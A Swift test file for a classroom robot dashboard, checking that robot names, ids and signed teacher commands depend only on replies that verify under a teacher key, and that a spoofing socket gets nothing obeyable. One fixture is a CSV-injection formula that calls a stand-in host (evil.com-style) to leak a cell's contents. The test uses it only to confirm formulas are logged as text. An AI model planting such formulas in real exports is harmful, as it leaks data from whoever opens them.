import ControlPlane
import ControlWire
import Controller
import Foundation
import Logging
import PhoneLink
import RemoteWire
import Synchronization
import SystemIO
import TestSupport
import Testing
@testable import WebServer

/// Identity only from signatures (Protocol.md §7.6, §7.10–§7.12): a robot's name, its robot id and
/// the target of every signed command come from messages that verify under the teacher key. A
/// plain UDP socket listed as a robot, answering unsigned, is shown as what it is and is never
/// given anything signed that a real receiver would obey.
@Suite(.serialized) struct TeacherLinkIdentityTests {
    typealias Dashboard = TeacherLinkReportTests.Dashboard
    static let keyText = TeacherLinkReportTests.keyText
    static let macKey = TeacherLinkReportTests.macKey
    static let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"robot-1\")"

    /// A stand-in at a UDP port on loopback: it records every datagram it gets and answers
    /// queries and teacher commands, signed with the teacher key (a real robot's answers, with
    /// watch reports) or unsigned (a keyless robot, or a classmate's laptop pretending).
    final class StandIn {
        let socket: UDPSocket
        let name: String
        let key: [UInt8]?
        let robotID: RobotID?
        private(set) var received: [[UInt8]] = []
        private var serial: UInt32 = 0

        init(name: String, key: [UInt8]?, robotID: RobotID? = nil) throws {
            socket = try UDPSocket.bind(port: 0, host: "127.0.0.1")
            self.name = name
            self.key = key
            self.robotID = robotID
        }

        var port: UInt16 { (try? socket.localAddress().port) ?? 0 }

        /// Reads and answers for `duration`, or until `done` holds; then reads what had already
        /// arrived (a datagram the link sent before `done` held is never left unread).
        func pump(for duration: Duration, until done: () -> Bool = { false }) {
            var buffer = [UInt8](repeating: 0, count: 2048)
            let end = ContinuousClock.now + duration
            var finished = false
            while true {
                if !finished, ContinuousClock.now >= end || done() { finished = true }
                guard let (n, from) = try? socket.receive(into: &buffer, timeout: finished ? .zero : .milliseconds(20)) else {
                    if finished { break } else { continue }
                }
                let bytes = Array(buffer[..<n])
                received.append(bytes)
                guard let d = try? ControlDatagram.decode(bytes),
                      let message = try? ControlMessage.decode(type: d.header.type, payload: d.payload) else { continue }
                switch message {
                case .stopAll(let c):
                    var reply = ControlMessage.StopAllReply(nonce: c.nonce, outcome: .released, displayName: WireText(name),
                                                            text: WireText(robotID?.target ?? ""))
                    if let key { reply.sign(key: key) }
                    _ = try? socket.send(Self.datagram(.stopAllReply(reply)), to: from)
                case .teacher(let c):
                    guard let key else {
                        // What a receiver without a key says (and what a forger would say).
                        let reply = TeacherReply(nonce: c.nonce, action: c.action, outcome: .refused, displayName: WireText(name),
                                                 text: "this receiver has no teacher key")
                        _ = try? socket.send(Self.datagram(.teacherReply(reply)), to: from)
                        continue
                    }
                    var reply = TeacherReply(nonce: c.nonce, action: c.action, outcome: .done, displayName: WireText(name))
                    reply.sign(key: key)
                    _ = try? socket.send(Self.datagram(.teacherReply(reply)), to: from)
                    if c.action == .watch {
                        serial += 1
                        var report = WatchReport(serial: serial, uptimeSeconds: 5, state: .free, robotID: robotID?.value ?? 0,
                                                 name: WireText(name), board: "kit profile", transport: "sim", version: "test")
                        report.sign(key: key, watchNonce: c.nonce)
                        _ = try? socket.send(Self.datagram(.watchReport(report)), to: from)
                    }
                default:
                    break
                }
            }
        }

        static func datagram(_ m: ControlMessage) -> [UInt8] {
            ControlDatagram(header: ControlHeader(type: m.type, connection: 0x5151), payload: m.encodePayload()[...]).encode()
        }

        func close() { socket.close() }
    }

    /// A real receiver's control plane with the teacher key, in the dashboard's session: what a
    /// robot on the LAN does with a datagram forwarded to it.
    static func receiver() -> ControlPlane<String> {
        var s = ClassroomSettings()
        s.accept = .first
        s.teacherKey = TeacherKey(macKey: macKey)
        s.session = "AnalogRemote"
        s.displayName = "robot-1"
        s.robotID = RobotID(value: 0x98e89e894b)
        s.peerID = 7
        return ControlPlane(settings: s, connection: 0xAAAA, oneShotConnection: 0xBBBB)
    }

    /// Attack 1 of the review: a plain socket listed as a robot (`--peer`) answers unsigned
    /// (named "", then named like the real robot, then with a formula). The teacher presses every
    /// button on its row and Stop all. It answers unsigned, as a keyless robot would: its Stop is a
    /// stop-all signed for the whole session, sent to it; everything else is not sent. Everything
    /// the socket got, forwarded to a real receiver of the session, can do nothing but stop it.
    /// Its row says what it is and why its other buttons are off, never takes its claimed name,
    /// and the lesson's CSV holds its formula as text.
    @Test(arguments: ["", "robot-1", formula])
    func aPlainSocketAnsweringUnsignedGetsNothingAReceiverWouldObey(calledItself: String) throws {
        let fake = try StandIn(name: calledItself, key: nil)
        defer { fake.close() }
        let dashboard = try Dashboard(ports: [fake.port])
        defer { dashboard.close() }
        var row: [String: Any] { (dashboard.page["rows"] as? [[String: Any]])?.first ?? [:] }

        // Its answer reaches the row (as a note), whatever the dashboard sent it.
        fake.pump(for: .seconds(5)) { row["unverified"] != nil || row["refusal"] != nil }
        #expect(row["unverified"] != nil, "the unsigned answer is not shown as unverified: \(row)")
        #expect((row["unverified"] as? String ?? "").hasPrefix("unverified reply from 127.0.0.1:\(fake.port)"), "\(row)")
        #expect(row["name"] == nil, "an unsigned answer named the row: \(row)")
        #expect(row["off"] != nil, "the row's buttons are not off: \(row)")

        // The teacher presses every button of its row, and Stop all / Release all.
        for command: TeacherLink.Command in [.kick("bye"), .lock("Mallory"), .unlock, .release, .stop, .identify] {
            dashboard.link.enqueue(command, robot: "r0")
        }
        fake.pump(for: .seconds(2)) { dashboard.log.components(separatedBy: ",not-sent,").count - 1 >= 5 }

        // Everything the socket got, forwarded to a real receiver: nothing is obeyed.
        var robot = Self.receiver()
        var obeyed: [String] = []
        for bytes in fake.received {
            let out = robot.control(bytes, from: "forwarder", now: .now, unixMillis: WallClock.unixMillis())
            for effect in out.effects {
                switch effect {
                case .teacherCommand(_, let c): obeyed.append("teacher \(c.action.name) for \"\(c.target)\"")
                case .teacher(let stop, _): obeyed.append(stop ? "stop" : "release")
                default: break
                }
            }
        }
        #expect(obeyed.allSatisfy { $0 == "stop" }, "a real receiver obeys more than a stop of what the fake robot was sent: \(obeyed)")
        // Unsigned queries, and the stop: a stop-all `stop` for the whole session. Nothing else.
        var stops = 0
        let kinds = fake.received.compactMap { bytes -> String? in
            guard let d = try? ControlDatagram.decode(bytes), let m = try? ControlMessage.decode(type: d.header.type, payload: d.payload)
            else { return "undecodable" }
            if case .stopAll(let c) = m, c.action == .query { return nil }
            if case .stopAll(let c) = m, c.action == .stop, c.target.isEmpty, c.verify(key: Self.macKey) { stops += 1; return nil }
            return "\(m.type)"
        }
        #expect(kinds.isEmpty, "the fake robot got more than queries and a stop: \(kinds)")
        #expect(stops > 0, "Stop on a robot answering unsigned sent no stop")
        #expect(!fake.received.isEmpty, "the dashboard never asked the robot who it is")

        // The row never took its name; the log says what happened, formulas as text.
        #expect(row["name"] == nil && dashboard.link.rows().allSatisfy { $0.name == nil }, "\(row)")
        let csv = dashboard.log
        #expect(csv.components(separatedBy: ",not-sent,").count - 1 >= 5, "the refused buttons are not in the log: \(csv)")
        for line in csv.split(separator: "\r\n") {
            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
                let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
                #expect(!(text.first.map { "=+-@".contains($0) } ?? false), "a formula cell in the lesson's CSV: \(line)")
            }
        }
    }

    /// A keyless robot named like a real one: the real robot (signed answers, robot id) has its
    /// row named robot-1 with its id; the keyless one is listed by its address, its buttons off,
    /// and nothing signed goes to it. On the phone page's list (``PeerNames`` with the teacher
    /// key) the keyless one keeps its address too: one robot-1, not two.
    @Test func aKeylessRobotNamedLikeARealOneNeitherRenamesNorDuplicatesIt() throws {
        let real = try StandIn(name: "robot-1", key: Self.macKey, robotID: RobotID(value: 0x98e89e894b))
        let keyless = try StandIn(name: "robot-1", key: nil)
        defer { real.close(); keyless.close() }
        let dashboard = try Dashboard(ports: [real.port, keyless.port])
        defer { dashboard.close() }
        func rows() -> [[String: Any]] { dashboard.page["rows"] as? [[String: Any]] ?? [] }
        func row(_ id: String) -> [String: Any] { rows().first { $0["id"] as? String == id } ?? [:] }

        let end = ContinuousClock.now + .seconds(8)
        while ContinuousClock.now < end, row("r0")["state"] == nil || row("r1")["unverified"] == nil {
            real.pump(for: .milliseconds(50))
            keyless.pump(for: .milliseconds(50))
        }
        #expect(row("r0")["name"] as? String == "robot-1" && row("r0")["robotId"] as? String == "k3m9x2ab" && row("r0")["off"] == nil,
                "the real robot's row: \(row("r0"))")
        #expect(row("r1")["name"] == nil && row("r1")["address"] as? String == "127.0.0.1:\(keyless.port)" && row("r1")["off"] != nil,
                "the keyless robot's row: \(row("r1"))")
        #expect(rows().filter { $0["name"] as? String == "robot-1" }.count == 1, "two rows named robot-1: \(rows())")
        // The real robot's watches and commands name its id; the keyless one got queries only.
        dashboard.link.enqueue(.kick("bye"), robot: "r0")
        dashboard.link.enqueue(.kick("bye"), robot: "r1")
        for _ in 0..<10 { real.pump(for: .milliseconds(50)); keyless.pump(for: .milliseconds(50)) }
        let commands = real.received.compactMap { bytes -> TeacherCommand? in
            guard let d = try? ControlDatagram.decode(bytes), case .teacher(let c)? = try? ControlMessage.decode(type: d.header.type, payload: d.payload)
            else { return nil }
            return c
        }
        #expect(!commands.isEmpty && commands.allSatisfy { $0.target == "id:k3m9x2ab" && $0.verify(key: Self.macKey) },
                "\(commands.map { "\($0.action.name) → \($0.target)" })")
        #expect(commands.contains { $0.action == .kick }, "the real robot's kick was not sent")
        #expect(!keyless.received.contains { $0.count > 3 && $0[3] == ControlType.teacher.rawValue }, "the keyless robot got a teacher command")

        // The phone page's list, named by PeerNames with the teacher key.
        let hub = PhoneHub(settings: .init(session: "AnalogRemote"), logger: Logger(label: "test"))
        let listed = try [real, keyless].enumerated().map { i, s in
            let address = try SocketAddress.resolve(host: "127.0.0.1", port: s.port)[0]
            return PhoneHub.Robot(id: "p\(i + 1)", name: "\(address)", peer: .init(address: address, label: "\(address)"))
        }
        hub.setRobots(listed)
        let names = try PeerNames(robots: listed, session: "AnalogRemote", hub: hub, teacherKey: Self.macKey, logger: Logger(label: "test"))
        defer { names.stop() }
        let until = ContinuousClock.now + .seconds(5)
        while ContinuousClock.now < until, hub.robots.first?.name != "robot-1" || keyless.received.count < 4 {
            real.pump(for: .milliseconds(50))
            keyless.pump(for: .milliseconds(50))
        }
        #expect(hub.robots.map(\.name) == ["robot-1", "127.0.0.1:\(keyless.port)"], "\(hub.robots.map(\.name))")
    }

    /// What the dashboard tells `stop-all` (the robots it sends its stop to first): only robots
    /// that proved the key, by the address their signed reply came from and the id it named. A
    /// keyless robot answering with a real robot's name is never among them.
    @Test func stopAllIsToldOnlyTheRobotsThatProvedTheKey() throws {
        let real = try StandIn(name: "robot-1", key: Self.macKey, robotID: RobotID(value: 0x98e89e894b))
        let keyless = try StandIn(name: "robot-1", key: nil)
        defer { real.close(); keyless.close() }
        let told = Mutex<[[String]]>([])
        let dashboard = try Dashboard(ports: [real.port, keyless.port]) { list in
            told.withLock { $0.append(list.map { "\($0.address) \($0.robot?.text ?? "-")" }) }
        }
        defer { dashboard.close() }
        let want = ["127.0.0.1:\(real.port) k3m9x2ab"]
        let end = ContinuousClock.now + .seconds(8)
        // Until the keyless one has been asked twice: its first unsigned answer has been judged.
        while ContinuousClock.now < end, told.withLock({ $0.last }) != want || keyless.received.count < 2 {
            real.pump(for: .milliseconds(50))
            keyless.pump(for: .milliseconds(50))
        }
        #expect(told.withLock { $0.last } == want)
        #expect(!told.withLock { $0 }.joined().contains { $0.contains(":\(keyless.port) ") }, "\(told.withLock { $0 })")
    }
}
